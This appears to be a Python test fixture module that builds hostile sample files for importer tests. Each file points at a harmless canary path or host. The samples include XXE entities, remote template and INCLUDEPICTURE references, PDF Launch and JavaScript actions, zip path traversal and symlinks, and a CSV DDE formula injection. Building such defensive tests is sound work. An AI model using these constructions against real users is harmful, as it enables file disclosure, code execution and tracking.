"""Hostile files: each names places on the disk and in a network, all of which carry the canary's name."""

from __future__ import annotations

import json

from tests.importers.corner_cases import pdf
from tests.importers.making import zipped, zipped_link

CANARY = "canary-5a1e"
FILE, WEB, SHARE = f"file:///tmp/{CANARY}/", f"http://{CANARY}.example/", f"\\\\{CANARY}\\share\\"

HTML = f"""<html><head><meta http-equiv="refresh" content="0;url={WEB}"><base href="{WEB}">
<link rel="stylesheet" href="{WEB}x.css"><style>@import url({FILE}x.css); body {{ background: url({WEB}b.png) }}</style>
<script src="{WEB}x.js"></script></head><body background="{FILE}b.png">
<img src="{WEB}pixel.gif"><img src="{FILE}p.png"><img src="{SHARE}p.png"><img src="//{CANARY}/p.png">
<img src="cid:none"><svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{FILE}s.png"/></svg>
<form action="{WEB}"><input autofocus onfocus="x()"></form><iframe src="{FILE}"></iframe><a href="{FILE}">Rang at 3</a>
</body></html>"""
MAIL = f"""From: "Ms Okafor" <office@example.org>
To: dana@example.org
Subject: The plan
Date: Wed, 13 May 2026 15:20:00 +0100
Message-ID: <{CANARY}@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html; charset=utf-8

{HTML}
--b
Content-Type: message/external-body; access-type=local-file; name="/tmp/{CANARY}/body"

Content-Type: text/plain

--b
Content-Type: application/pdf; name="../../tmp/{CANARY}.pdf"
Content-Disposition: attachment; filename="../../../../tmp/{CANARY}.pdf"

%PDF-1.4
--b--
"""
SVG = f"""<?xml version="1.0"?><!DOCTYPE svg SYSTEM "{FILE}x.dtd" [<!ENTITY x SYSTEM "{FILE}secret">]>
<?xml-stylesheet href="{WEB}x.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{FILE}s.png"/>
<text>&x;</text><script>fetch("{WEB}")</script></svg>"""
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def _relations(*targets: tuple[str, str]) -> str:
    lines = "".join(
        f'<Relationship Id="r{n}" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(targets)
    )
    return f'<Relationships xmlns="{_PACKAGE}">{lines}</Relationships>'


DOCX = {
    "[Content_Types].xml": _TYPES,
    "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r" Type="{_OFFICE}/officeDocument" '
    'Target="word/document.xml"/></Relationships>',
    "word/document.xml": f'<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:instrText>INCLUDEPICTURE "{WEB}p.png"'
    f'</w:instrText><w:t>Dear Ms Carter</w:t></w:r></w:p><w:altChunk xmlns:r="{_OFFICE}" r:id="r1"/></w:body>'
    "</w:document>",
    "word/settings.xml": f'<w:settings xmlns:w="{_WORD}"/>',
    "word/_rels/settings.xml.rels": _relations(
        ("attachedTemplate", f"{FILE}t.dotm"), ("attachedTemplate", f"{WEB}t.dotm")
    ),
    "word/_rels/document.xml.rels": _relations(("image", f"{SHARE}i.png"), ("aFChunk", f"{WEB}c.html")),
}
PDF = pdf(
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [6 0 R 7 0 R] /AA << /O 4 0 R >> >>",
    f"<< /S /Launch /F (/tmp/{CANARY}/program) /Win << /F (\\\\\\\\{CANARY}\\\\x.exe) >> >>".encode(),
    f"<< /S /JavaScript /JS (app.launchURL\\('{WEB}'\\); this.importTextData\\('/tmp/{CANARY}/x'\\)) >>".encode(),
    f"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI ({WEB}) >> >>".encode(),
    f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (/tmp/{CANARY}/o) /D [0 /Fit] >> >>".encode(),
)
EVENT = f"""BEGIN:VCALENDAR
BEGIN:VEVENT
UID:{CANARY}
DTSTART;TZID=../../../tmp/{CANARY}:20260513T152000
ATTACH:{FILE}a.pdf
ATTACH;VALUE=URI:{WEB}a.pdf
SUMMARY;ALTREP="{WEB}":Review
END:VEVENT
END:VCALENDAR
"""
DAY_ONE = {
    "entries": [
        {
            "creationDate": "2026-05-13T14:40:00Z",
            "timeZone": f"../../../tmp/{CANARY}",
            "text": f"![]({FILE}p.png) ![](dayone-moment://A1)",
            "photos": [{"identifier": "A1", "md5": f"../../tmp/{CANARY}", "type": "jpeg"}],
        }
    ]
}
CHAT = f"[13/05/2026, 15:20:11] Dana: \u200e<attached: ../../tmp/{CANARY}.jpg>\n[13/05/2026, 15:21:00] Dana: {FILE}\n"
NOTE = f"---\ndate: 2026-05-13\n---\n![x]({FILE}p.png) ![[/tmp/{CANARY}/p.png]] ![](../../../tmp/{CANARY}/p.png)\n"
BOOK = {
    "[Content_Types].xml": _TYPES,
    "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
    "xl/externalLinks/externalLink1.xml": "<externalLink/>",
    "xl/_rels/workbook.xml.rels": _relations(("externalLink", f"{FILE}book.xlsx"), ("worksheet", f"{WEB}sheet.xml")),
}
RTF = rf"{{\rtf1 {{\*\template {FILE}t.dotm}}{{\field{{\*\fldinst INCLUDEPICTURE {WEB}p.png}}}}Dear Ms Carter}}"

FILES: dict[str, bytes] = {
    "plan.eml": MAIL.replace("\n", "\r\n").encode(),
    "drawing.svg": SVG.encode(),
    "letter.docx": zipped(DOCX),
    "report.pdf": PDF,
    "review.ics": EVENT.encode(),
    "Journal.json": json.dumps(DAY_ONE).encode(),
    "chat.txt": CHAT.encode(),
    "chat.zip": zipped({"_chat.txt": CHAT, f"{CANARY}.jpg": b"x"}),
    "outside.zip": zipped({f"../../tmp/{CANARY}.txt": b"x"}),
    "link.zip": zipped_link(f"{CANARY}.jpg", f"../tmp/{CANARY}"),
    "note.md": NOTE.encode(),
    "vault.zip": zipped({"note.md": NOTE}),
    "book.xlsx": zipped(BOOK),
    "calls.csv": f'Date,Notes\n2026-05-13,"=HYPERLINK(""{WEB}"")"\n2026-05-14,=cmd|\' /C {CANARY}\'!A0\n'.encode(),
    "letter.rtf": RTF.encode(),
    "page.html": HTML.encode(),
    "shortcut.url": f"[InternetShortcut]\nURL={FILE}\nIconFile={SHARE}i.ico\n".encode(),
    "shortcut.desktop": f"[Desktop Entry]\nType=Link\nURL={WEB}\nExec=/tmp/{CANARY}\n".encode(),
}
